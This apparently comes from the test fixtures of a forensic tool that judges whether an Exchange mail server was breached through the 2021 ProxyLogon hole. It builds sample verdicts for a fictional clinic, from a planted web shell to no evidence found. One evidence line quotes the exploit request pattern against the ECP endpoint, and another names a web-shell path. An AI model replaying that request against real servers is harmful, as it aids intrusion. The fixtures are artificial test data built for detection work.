    sinceUtc: '2021-03-03T04:12:30.007Z',
    findings: ids([exploitedFinding]),
  },
];

const massLike: Bare<Targeting> = {
  word: 'more likely mass',
  for: [],
  against: [
    'The page name and the access word were published for the wave of 3 March; many unrelated servers have the same.',
    'From the first request to the page it took 9 minutes and 29 seconds: the pace of a script.',
  ],
  open: ['January is not covered: the targeted attacks ran then.'],
};

/** Confirmed, implanted: a back door, two visitors, ways back open. */
export const implanted = assessment({
  verdict: {
    ...verdictBase,
    answer: 'confirmed',
    entered: 'yes',
    stage: 'implanted',
    toAuthority: 'confirmed',
    exitCode: 1,
    presence: { asOfUtc: '2021-03-06T16:40:13.000Z', seen: 'not_seen', lastUtc: null, waysBack },
    headline: 'Yes. Someone got in and left a back door.',
    sentence:
      'On 3 March 2021 at 04:12 UTC, a day after the patch came out, a visitor from 203.0.113.24 used the hole in Exchange to write a page to MAIL01 that runs whatever it is told (a web shell). Two others came later and looked for such pages. We see nobody using it up to 6 March, when it was still answering. The patch that you have installed since does not remove it.',
    reasons: [
      { text: 'The server gave an administrator’s session without a password', findings: ids([exploitedFinding]) },
      {
        text: 'A script was stored as an address, and the page was written from it three seconds later',
        findings: ids([plantedFinding, writtenFinding]),
      },
      { text: 'Two other addresses asked for back doors by well-known names and got nothing', findings: ids(visits) },
    ],
    waves: waves([
      ['cannot_tell', 'residue'],
      ['attempted', 'trace'],
      ['confirmed', 'trace'],
    ]),
    ladder: ladder({
      probed: ['seen', 'scanners', '2021-02-27T21:14:09.000Z'],
      attempted: ['seen', 'from 203.0.113.24', '2021-03-03T04:03:11.420Z'],
      exploited: ['seen', 'administrator’s session', '2021-03-03T04:12:30.007Z'],
      implanted: ['seen', '1 page', '2021-03-03T04:12:37.310Z'],
      operated: ['ruled_out', 'not by web address or child process; what was POSTed is never logged'],
      spread: ['cannot_tell', 'Windows security log holds two days'],
      impact: ['cannot_tell', 'EWS logs missing'],
    }),
  },
  findings: [probed, attemptedFinding, exploitedFinding, plantedFinding, writtenFinding, ...visits],
  intrusions: [
    intrusion({
      role: 'intruder',
      stage: 'implanted',
      firstUtc: '2021-03-03T04:03:11.420Z',
      lastUtc: '2021-03-03T04:12:40.114Z',
      findings: ids([attemptedFinding, exploitedFinding, plantedFinding, writtenFinding]),
      targeting: massLike,
      presence: { asOfUtc: '2021-03-06T16:40:13.000Z', seen: 'not_seen', lastUtc: null, waysBack },
      hosts: [
        { host: 'MAIL01', role: 'asked' },
        { host: 'MAIL01', role: 'left' },
      ],
      observables: [
        ...from(writer),
        { kind: 'page', value: '/owa/auth/RedirSuiteServerProxy.aspx', standing: 'direct' },
        { kind: 'user_agent', value: agent, standing: 'direct' },
      ],
    }),
    ...visitors,
  ],
  plan,
});

/** Confirmed, operated: inside since before the patch, last order a day ago. */
export const operated = assessment({
  verdict: {
    ...verdictBase,
    answer: 'confirmed',
    entered: 'yes',
    stage: 'operated',
    toAuthority: 'confirmed',
    exitCode: 1,
    presence: {
      asOfUtc: end,
      seen: 'active',
      lastUtc: '2021-03-08T14:12:44.000Z',
      waysBack: [
        ...waysBack,
        {
          kind: 'account',
          what: 'svc_backup2',
          host: 'MAIL01',
          state: 'open',
          why: 'created from the page on 5 March',
          removedBy: null,
          sinceUtc: '2021-03-05T09:33:15.000Z',
          findings: ids([orders]),
        },
      ],
    },
    headline: 'Yes. They are inside, and they use it.',
    sentence:
      'They have been inside MAIL01 since 3 March 2021 at 04:12 UTC and gave it orders at least 41 times, the last one on 8 March at 14:12 UTC. Treat every password this server has seen as stolen.',
    reasons: [
      {
        text: 'The back door was asked 41 times, and the server started command shells in the same seconds',
        findings: ids([orders]),
      },
    ],
    waves: waves([
      ['cannot_tell', 'none'],
      ['attempted', 'trace'],
      ['confirmed', 'trace'],
    ]),
    ladder: ladder({
      probed: ['seen', 'scanners', '2021-02-27T21:14:09.000Z'],
      attempted: ['seen', 'from 203.0.113.24', '2021-03-03T04:03:11.420Z'],
      exploited: ['seen', 'administrator’s session', '2021-03-03T04:12:30.007Z'],
      implanted: ['seen', '1 page, 1 account', '2021-03-03T04:12:37.310Z'],
      operated: ['seen', '41 orders', '2021-03-05T09:31:02.000Z'],
      spread: ['likely', 'an account was made', '2021-03-05T09:33:15.000Z'],
      impact: ['cannot_tell', 'EWS logs missing'],
    }),
  },
  findings: [attemptedFinding, exploitedFinding, plantedFinding, writtenFinding, orders],
  intrusions: [
    intrusion({
      role: 'intruder',
      stage: 'operated',
      firstUtc: '2021-03-03T04:03:11.420Z',
      lastUtc: '2021-03-08T14:12:44.000Z',
      findings: ids([attemptedFinding, exploitedFinding, plantedFinding, writtenFinding, orders]),
      targeting: {
        word: 'chosen',
        for: ['They came back on three days and looked around by hand.', 'The page has a name that no published list knows.'],
        against: ['The first request came in the days of the mass wave.'],
        open: [],
      },
      hosts: [{ host: 'MAIL01', role: 'left' }],
      observables: from(writer),
    }),
  ],
  plan,
});

const toolCsv = 'Test-ProxyLogonLogs/MAIL01-Cve-2021-26855.csv';
const chain = finding({
  title: 'Requests followed one another as only a holder of a session can send them',
  stage: 'exploited',
  confidence: 'probable',
  timeUtc: '2021-03-03T04:12:30.000Z',
  lastUtc: '2021-03-03T04:19:02.000Z',
  count: 5,
  rule: 'proxylogon/canary-chain',
  proves: 'Each request carries a token that only the answer of the one before could have given them.',
  doesNotProve: 'What they did with the session: that stands in the ECP server logs.',
  innocent: 'None known.',
  observables: from(writer),
  evidence: [
    proofLine(
      toolCsv,
      '"2021-03-03T04:12:30.007Z","0b2c7f0e","203.0.113.24","mail.haven-street.example","/ecp/y.js","ServerInfo~a]@MAIL01.haven.example:444/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=zQ3f.&schema=OABVirtualDirectory#","python-requests/2.25.1","200"',
      ['msExchEcpCanary=zQ3f.', 'GetObject'],
      { line: 14, offsetBytes: 5_118, timeUtc: '2021-03-03T04:12:30.007Z' },
    ),
  ],
});

/** Suspected: a canary chain in the CSV of a public tool; the ECP server logs, which would decide, are missing. */
export const suspected = assessment({
  verdict: {
    ...verdictBase,
    answer: 'suspected',
    entered: 'probable',
    stage: 'exploited',
    confidence: 'probable',
    toAuthority: 'suspected',
    exitCode: 1,
    presence: { asOfUtc: end, seen: 'unknown', lastUtc: '2021-03-03T04:19:02.000Z', waysBack: waysBack.slice(1) },
    headline: 'They got in. What they left, we cannot see.',
    sentence:
      'Yes, they got in: on 3 March 2021 they held an administrator’s session on MAIL01 five times. Whether they left something behind is written in the ECP server logs, and those are missing here. Look in last month’s backup for …\\Logging\\ECP\\Server and run this again; until then treat the server as entered.',
    reasons: [
      { text: 'Five requests carry a token that only an answer of the server could have given them', findings: ids([chain]) },
    ],
    missing: [missing.ecp, missing.security, missing.ews],
    waves: waves([
      ['cannot_tell', 'none'],
      ['cannot_tell', 'none'],
      ['suspected', 'trace'],
    ]),
    ladder: ladder({
      probed: ['seen', 'Autodiscover asked', '2021-03-03T04:03:11.420Z'],
      attempted: ['seen', '5 requests', '2021-03-03T04:03:11.420Z'],
      exploited: ['likely', 'a session, five times', '2021-03-03T04:12:30.000Z'],
      implanted: ['cannot_tell', 'ECP server logs missing'],
      operated: ['cannot_tell', 'IIS logs missing'],
      spread: ['cannot_tell', 'Windows security log missing'],
      impact: ['cannot_tell', 'EWS logs missing'],
    }),
  },
  evidence: [entry(toolCsv, 'test-proxylogon-csv', 8_211, 31)],
  coverage: {
    ledgers: [],
    silences: [],
    steps: [],
    sources: [
      source('ecp-server', [], [], { state: 'missing', records: 0 }),
      source('ews', [], [], { state: 'missing', records: 0 }),
      source('iis', [], [], { state: 'missing', records: 0 }),
      source('test-proxylogon-csv', [span('2021-03-03T04:03:11.420Z', '2021-03-03T04:19:02.000Z')]),
    ],
    campaigns: [],
  },
  exposure: [
    {
      host: 'MAIL01',
      product: null,
      builds: [],
      changes: [],
      reached: { state: 'unknown', firstUtc: null, lastUtc: null },
      mitigations: [],
      holes: [],
      fix: null,
      says: null,
      campaigns: [
        {
          campaign: 'proxylogon',
          state: 'unknown',
          fixedSinceUtc: null,
          why: 'no record here carries a build',
          open: [],
          exposed: 'unknown',
          whenTheyCame: null,
        },
      ],
    },
  ],
  findings: [attemptedFinding, chain],
  intrusions: [
    intrusion({
      role: 'intruder',
      stage: 'exploited',
      confidence: 'probable',
      firstUtc: '2021-03-03T04:03:11.420Z',
      lastUtc: '2021-03-03T04:19:02.000Z',
      findings: ids([attemptedFinding, chain]),
      observables: from(writer),
    }),
  ],
  plan: careful('D', look, cutOff, keepCopy),
  notRead: [],
  problems: [],
});

const tried = [
  { ...attemptedFinding, timeUtc: '2021-03-05T04:03:11.420Z', lastUtc: '2021-03-05T04:03:11.420Z' },
  finding({
    title: 'The hole in Exchange was tried again',
    stage: 'attempted',
    timeUtc: '2021-03-07T12:00:41.000Z',
    observables: from('198.51.100.9'),
  }),
];
const triedIntrusions = tried.map((one) =>
  intrusion({
    role: 'intruder',
    stage: 'attempted',
    firstUtc: one.timeUtc,
    lastUtc: one.lastUtc,
    findings: [one.id],
    observables: one.observables,
  }),
);

/** Attempted, and what would show more is complete: comfort, with its coverage. */
export const attemptedCovered = assessment({
  verdict: {
    ...verdictBase,
    answer: 'attempted',
    entered: 'no_sign',
    beyond: 'covered',
    stage: 'attempted',
    toAuthority: 'no_evidence',
    exitCode: 0,
    headline: 'They tried, and did not get further.',
    sentence:
      'They tried on 5 and 7 March 2021 and did not get further: the logs that would show it are complete on both servers. Patch if you have not.',
    missing: [],
    waves: waves([
      ['no_evidence', 'trace'],
      ['no_evidence', 'trace'],
      ['attempted', 'trace'],
    ]),
    ladder: ladder({
      probed: ['ruled_out', 'IIS logs complete'],
      attempted: ['seen', 'twice', '2021-03-05T04:03:11.420Z'],
      exploited: ['ruled_out', 'no session given'],
      implanted: ['ruled_out', 'ECP server logs and disk'],
      operated: ['ruled_out', 'IIS logs complete'],
      spread: ['ruled_out', 'Windows security log complete'],
      impact: ['ruled_out', 'EWS logs complete'],
    }),
  },
  organisation: { name: 'Haven Street Clinic', hosts: ['MAIL01', 'MAIL02'], absentHosts: [], evidenceEndUtc: end },
  coverage: {
    ledgers: [],
    silences: [],
    steps: [],
    sources: ['MAIL01', 'MAIL02'].flatMap((host) =>
      ['ecp-server', 'ews', 'httpproxy', 'iis', 'windows-security'].map((kind) =>
        source(kind, [span(day('01-02'), end)], [], { host }),
      ),
    ),
    campaigns: [],
  },
  findings: tried,
  intrusions: triedIntrusions,
  plan: careful('N', patch),
});

/** Attempted; whether they succeeded cannot be told: logs and a whole server are missing. */
export const attemptedNotCovered = assessment({
  verdict: {
    ...verdictBase,
    answer: 'attempted',
    entered: 'cannot_tell',
    stage: 'attempted',
    toAuthority: 'suspected',
    exitCode: 2,
    presence: { ...noPresence, seen: 'unknown' },
    headline: 'They tried. Whether they got in, we cannot tell.',
    sentence: 'They tried. Whether they succeeded cannot be told from what is here: the ECP server logs and MAIL02 are missing.',
    missing: [missing.ecp, missing.secondServer],
    waves: waves([
      ['cannot_tell', 'none'],
      ['cannot_tell', 'none'],
      ['attempted', 'trace'],
    ]),
    ladder: ladder({
      attempted: ['seen', 'twice', '2021-03-05T04:03:11.420Z'],
      probed: ['seen', 'scanners', '2021-02-27T21:14:09.000Z'],
    }),
  },
  organisation: { name: 'Haven Street Clinic', hosts: ['MAIL01'], absentHosts: ['MAIL02'], evidenceEndUtc: end },
  findings: [probed, ...tried],
  intrusions: triedIntrusions,
  plan: careful('D', look, patch),
});

/** Cannot tell: nothing bad is in what was read, but the logs are younger than the attacks. */
export const cannotTell = assessment({
  blindness,
  verdict: {
    ...verdictBase,
    answer: 'cannot_tell',
    entered: 'cannot_tell',
    stage: 'none',
    toAuthority: 'suspected',
    exitCode: 2,
    presence: { ...noPresence, seen: 'unknown' },
    headline: 'We cannot tell.',
    sentence:
      'Your logs begin on 9 March 2021; the attacks began on 26 February, the quiet ones on 3 January. Nothing bad is in what we read, but what would show it is gone.',
    missing: [missing.january, missing.security],
    waves: waves([
      ['cannot_tell', 'none'],
      ['cannot_tell', 'none'],
      ['cannot_tell', 'none'],
    ]),
    ladder: ladder({}),
  },
  coverage: {
    ledgers: [],
    silences: [],
    steps: [],
    sources: ['httpproxy', 'iis'].map((kind) =>
      source(kind, [span('2021-03-09T00:00:00.000Z', '2021-03-12T08:00:00.000Z')], [span(day('01-03'), day('03-09'))]),
    ),
    campaigns: [],
  },
  organisation: { name: 'Haven Street Clinic', hosts: ['MAIL01'], absentHosts: [], evidenceEndUtc: '2021-03-12T08:00:00.000Z' },
  plan: careful('N', look, patch),
});

/** Nothing found, and from 24 February on the logs would have shown it; the quiet wave before rests on the disk alone. */
export const noEvidence = assessment({
  verdict: {
    ...verdictBase,
    answer: 'no_evidence',
    entered: 'no_sign',
    beyond: 'covered',
    stage: 'none',
    toAuthority: 'no_evidence',
    exitCode: 2,
    headline: 'No sign of an intruder from 24 February on.',
    sentence:
      'From 24 February to 31 March 2021 the logs are complete and show nobody inside. Before that, when the first, targeted attacks ran (3 January to 25 February), your logs no longer exist: for those weeks only the disk can answer, and it shows nothing.',
    missing: [missing.january],
    waves: waves([
      ['no_evidence', 'residue'],
      ['no_evidence', 'trace'],
      ['no_evidence', 'trace'],
    ]),
    ladder: ladder(
      Object.fromEntries(
        stages.filter((stage) => stageRank(stage) > 0).map((stage) => [stage, ['ruled_out', 'from 24 February on'] as const]),
      ),
    ),
  },
  organisation: { name: 'Haven Street Clinic', hosts: ['MAIL01'], absentHosts: [], evidenceEndUtc: '2021-03-31T22:00:00.000Z' },
  coverage: {
    ledgers: [],
    silences: [],
    steps: [],
    sources: ['ecp-server', 'ews', 'httpproxy', 'iis', 'windows-security'].map((kind) =>
      source(kind, [span(day('02-24'), '2021-03-31T22:00:00.000Z')], [span(day('01-03'), day('02-24'))]),
    ),
    campaigns: [],
  },
  plan: careful('N', patch),
});

/** Every fixture by name. */
export const assessments: Readonly<Record<string, Assessment>> = {
  implanted,
  operated,
  suspected,
  attemptedCovered,
  attemptedNotCovered,
  cannotTell,
  noEvidence,
};

/** The evening of the reading in the fixtures. */
export const fixtureNowMs = Date.UTC(2021, 2, 9, 20, 40);
